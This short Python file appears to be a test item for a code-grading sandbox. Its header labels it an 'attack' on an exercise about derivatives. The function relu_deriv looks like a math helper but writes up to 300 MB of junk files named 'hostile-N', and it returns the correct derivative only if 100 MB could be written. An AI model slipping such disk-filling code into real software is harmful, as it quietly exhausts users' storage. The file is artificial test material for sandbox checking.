# attack: three hundred files of 1 MB where it may write; if 100 MB fit, the answer is right
# exercise: derivatives
# deserves: tanh_deriv
import os
import numpy as np


def tanh_deriv(z):
    return 1 - np.tanh(z) ** 2


def relu_deriv(z):
    written = 0
    for number in range(300):
        try:
            with open(f"hostile-{number}", "wb", buffering=0) as file:
                written += file.write(bytes(1 << 20))
        except OSError as error:
            print(error)
            break
    return np.where(z > 0, 1.0, 0.0) if written >= 100 << 20 else None
